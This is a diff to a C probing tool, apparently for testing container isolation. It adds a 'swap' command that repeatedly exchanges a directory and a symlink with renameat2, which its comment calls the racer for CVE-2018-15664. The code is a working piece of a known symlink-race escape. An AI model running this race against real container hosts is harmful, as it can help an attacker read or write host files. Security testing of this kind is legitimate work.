@@ -160,6 +160,16 @@ static int hunt(int secs) {
   return 0;
 }
 
+/* Exchanges a and b (renameat2 RENAME_EXCHANGE) n times, as fast as it can: a directory and a
+ * symlink trade names, so a path walk through a/ meets either (CVE-2018-15664's racer). */
+static int swap(const char *a, const char *b, long n) {
+  for (long i = 0; i < n; i++)
+    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0)
+      return report("renameat2", -1), 1;
+  printf("swap: done\n");
+  return 0;
+}
+
 int main(int argc, char **argv) {
   const char *cmd = argc > 1 ? argv[1] : "";
   const char *a2 = argc > 2 ? argv[2] : "";
@@ -193,6 +203,7 @@ int main(int argc, char **argv) {
   if (!strcmp(cmd, "fds")) return list_fds();
   if (!strcmp(cmd, "hunt")) return hunt(atoi(a2));
   if (!strcmp(cmd, "cwd-fds")) return cwd_fds();
+  if (!strcmp(cmd, "swap")) return swap(a2, a3, argc > 4 ? atol(argv[4]) : 1);
   if (!strcmp(cmd, "open-write")) {
     int fd = open(a2, O_WRONLY | O_CLOEXEC);
     report("open-write", fd);
